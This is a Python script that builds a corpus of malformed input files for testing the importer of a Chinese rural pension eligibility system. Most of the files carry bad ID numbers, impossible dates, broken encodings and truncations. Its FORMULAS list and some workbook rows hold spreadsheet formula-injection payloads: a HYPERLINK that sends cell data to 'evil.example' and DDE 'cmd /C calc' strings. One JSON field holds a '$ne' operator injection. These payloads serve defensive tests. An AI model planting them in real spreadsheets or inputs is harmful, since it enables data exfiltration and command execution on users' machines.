"""Writes the bad-input corpus next to this file; the files are committed, this script documents them.

    PYTHONPATH=. .venv/bin/python tests/data/bad/make_corpus.py

Every file is deterministic (the workbooks up to their creation time). ID numbers are those of
`tests.factories.id_number(seq)` (born 1950-03-04, Yangbi), so the test registers recipients
0..9 before importing. Expected outcomes live in `tests/reliability/test_bad_input.py` (one table:
file → the (row, field, code) it must report).
Files ending in .gz are stored compressed (the 10 MB cells) and imported under their name without .gz.
"""

from __future__ import annotations

import csv
import datetime as dt
import gzip
import io
import json
from pathlib import Path

from openpyxl import Workbook

from tests.factories import bad_check_digit, id_number

HERE = Path(__file__).parent
APP = ["姓名", "身份证号码", "认证时间", "认证结果", "认证渠道", "流水号", "失败原因"]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点此核对")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "=1+1",
]


def with_check_digit(body17: str) -> str:
    from stdnum.cn import ric

    return body17 + ric.calc_check_digit(body17 + "0")  # it ignores the last character


def csv_text(header: list[str], rows: list[list[object]]) -> str:
    out = io.StringIO(newline="")
    writer = csv.writer(out)
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue()


def app_row(seq: int, serial: str, *, when: str = "2024-03-01 10:00:00", result: str = "通过", **cells) -> list:
    row = {"name": f"受益人{seq}", "id": id_number(seq), "when": when, "result": result,
           "channel": "云南人社12333", "serial": serial, "reason": "", **cells}
    return [row[k] for k in ("name", "id", "when", "result", "channel", "serial", "reason")]


def workbook(sheets: dict[str, list[list[object]]]) -> bytes:
    book = Workbook()
    book.remove(book.active)
    for title, rows in sheets.items():
        sheet = book.create_sheet(title)
        for row in rows:
            sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


FORM = ["表单编号", "姓名", "身份证号码", "险种", "确认日期", "村民小组长签字", "村级协办员签字", "村(社区)主任签字",
        "照片"]


def form(number: str, seq: int, day: object, *, id_cell: object = None,
         signers: tuple[str, ...] = ("李组长", "王协办", "赵主任"), name: str | None = None) -> list:
    person = [number, name or f"受益人{seq}", id_cell or id_number(seq)]
    return [*person, "城乡居民基本养老保险", day, *signers, "IMG_1.jpg"]


def files() -> dict[str, bytes]:
    out: dict[str, bytes] = {}
    utf8 = lambda rows: csv_text(APP, rows).encode("utf-8")  # noqa: E731
    out["app_invalid_id_numbers.csv"] = utf8([
        app_row(0, "ID-0"),
        app_row(1, "ID-1", id=bad_check_digit(id_number(1))),
        app_row(2, "ID-2", id=id_number(2)[:17]),
        app_row(3, "ID-3", id="532922195O03040034"),  # a letter O for a zero
        app_row(4, "ID-4", id=with_check_digit("53292219500230004")),  # 30 February
        app_row(5, "ID-5", id=with_check_digit("99999919500304005")),  # no such area
        app_row(6, "ID-6", id=id_number(600)),  # valid, but nobody registered
        app_row(7, "ID-7", id=""),
    ])  # fmt: skip
    out["app_impossible_dates.csv"] = utf8([
        app_row(0, "D-0", when="2023-02-30 10:00:00"),
        app_row(1, "D-1", when="2023-13-01"),
        app_row(2, "D-2", when="2099-01-01 10:00:00"),
        app_row(3, "D-3", when="昨天"),
        app_row(4, "D-4", when="2024/2/29 08:00"),  # a real leap day
        app_row(5, "D-5", when="2023-02-29"),
        app_row(6, "D-6", when="2024-03-01 25:61:00"),
    ])  # fmt: skip
    dup = app_row(0, "DUP-0")
    out["app_duplicate_rows.csv"] = utf8([dup, dup, app_row(1, "DUP-1"), app_row(1, "DUP-1")])
    whole = utf8([app_row(0, "T-0"), app_row(1, "T-1"), app_row(2, "T-2")])
    out["app_truncated.csv"] = whole[: whole.rindex(b"2024-03-01") + 7]  # cut inside the last row's time
    out["app_unterminated_quote.csv"] = utf8([app_row(0, "Q-0"), app_row(1, "Q-1"), app_row(2, "Q-2")]).replace(
        b"Q-1", b'"Q-1', 1
    )
    out["app_nul_byte.csv"] = utf8([app_row(0, "N-0"), app_row(1, "N-1")]).replace(b"N-1", b"N-\x001", 1)
    out["app_huge_cell.csv.gz"] = gzip.compress(
        utf8([app_row(0, "H-0"), app_row(1, "H-1", result="未通过", reason="A" * 10 * 1024 * 1024), app_row(2, "H-2")]),
        mtime=0,
    )
    good = csv_text(APP, [app_row(0, "M-0"), app_row(1, "M-1")]).encode("utf-8")
    out["app_mixed_encoding.csv"] = good + csv_text(APP, [app_row(2, "M-2")]).split("\r\n", 1)[1].encode("gbk")
    out["app_utf16_without_bom.csv"] = csv_text(APP, [app_row(0, "U-0")]).encode("utf-16-le")
    out["app_latin1.csv"] = "name,idNumber,time,result\r\nJosé Müller,5329221950,2024-03-01,pass\r\n".encode("latin-1")
    out["app_formula_injection.csv"] = utf8([
        app_row(0, "F-0", name=FORMULAS[0], channel=FORMULAS[1], result="未通过", reason=FORMULAS[3]),
        app_row(1, FORMULAS[2], channel=FORMULAS[4]),
    ])  # fmt: skip
    records = [dict(zip(APP, app_row(i, f"J-{i}"), strict=True)) for i in range(3)]
    whole_json = json.dumps(records, ensure_ascii=False, indent=1).encode("utf-8")
    out["app_truncated.json"] = whole_json[: len(whole_json) * 2 // 3]
    out["app_wrong_types.json"] = json.dumps([
        {**records[0], "身份证号码": int(id_number(0)), "流水号": "W-0"},  # a number: still readable
        {**records[1], "认证时间": 20240301, "流水号": "W-1"},
        {**records[2], "认证结果": ["通过"], "流水号": "W-2"},
        {**records[0], "身份证号码": {"$ne": None}, "流水号": "W-3"},
        {**records[0], "身份证号码": None, "认证时间": True, "流水号": "W-4"},
    ], ensure_ascii=False).encode("utf-8")  # fmt: skip
    out["app_not_objects.json"] = b"[1, 2, [3]]"

    good_book = workbook({"确认表": [FORM, form("P-0", 0, dt.datetime(2024, 3, 5))]})
    out["paper_truncated.xlsx"] = good_book[: len(good_book) // 2]
    out["paper_not_a_workbook.xlsx"] = csv_text(FORM, [form("P-0", 0, "2024-03-05")]).encode("utf-8")
    out["paper_formulas_and_dates.xlsx"] = workbook({"确认表": [
        ["漾濞县社会保险待遇领取资格现场确认登记台账"],
        FORM,
        form("P-1", 1, "2024-03-05", id_cell=f'=HYPERLINK("http://evil.example","{id_number(1)}")'),  # row 3
        form("P-2", 2, "2023-02-30"),  # row 4
        form("P-3", 3, dt.datetime(2099, 1, 1)),  # row 5
        form("P-4", 4, "2024-03-05", signers=("=cmd|' /C calc'!A0", "王协办", "赵主任")),  # row 6
        form("P-5", 5, dt.datetime(2024, 3, 5), name=FORMULAS[0]),  # row 7: recorded, the name is not
        form("P-6", 6, "2024-03-05", name="长" * 40_000),  # row 8
    ]})  # fmt: skip
    death = ["姓名", "身份证号码", "死亡日期", "数据来源", "证明编号", "报告单位", "报告日期"]
    out["death_records_bad.csv"] = csv_text(death, [
        ["受益人0", id_number(0), "2099-12-31", "火化", "HH-1", "漾濞县殡仪馆", "2024-05-10"],
        ["受益人1", id_number(1), "2023-02-30", "民政", "MZ-2", "漾濞县民政局", "2024-05-10"],
        ["受益人2", bad_check_digit(id_number(2)), "2024-04-01", "民政", "MZ-3", "漾濞县民政局", "2024-05-10"],
        ["受益人3", id_number(3), "2024-04-01", "民政", "MZ-4", "漾濞县民政局", "2024-05-10"],
        ["受益人4", id_number(4), "", "托梦", "MZ-5", "漾濞县民政局", "2024-05-10"],
    ]).encode("gbk")  # fmt: skip
    custody = {"record": "CUSTODY_STARTED", "id_number": id_number(0), "date": "2024-01-05",
               "case_ref": "漾公(刑)字[2024]12号", "measure": "取保候审", "organ": "漾濞县公安局"}  # fmt: skip
    lines = [
        json.dumps(custody, ensure_ascii=False),
        json.dumps({**custody, "id_number": id_number(1)}, ensure_ascii=False)[:40],  # cut off
        json.dumps({**custody, "record": "越狱", "id_number": id_number(2)}, ensure_ascii=False),
        json.dumps({**custody, "date": "2023-02-30", "id_number": id_number(3)}, ensure_ascii=False),
        json.dumps({**custody, "measure": "软禁", "id_number": id_number(4)}, ensure_ascii=False),
        "[1, 2]",
    ]
    out["judicial_malformed.jsonl"] = ("\n".join(lines) + "\n").encode("utf-8")
    return out


def main() -> None:
    for name, data in files().items():
        (HERE / name).write_bytes(data)
        print(f"{name:34} {len(data):>9,} bytes")


if __name__ == "__main__":
    main()
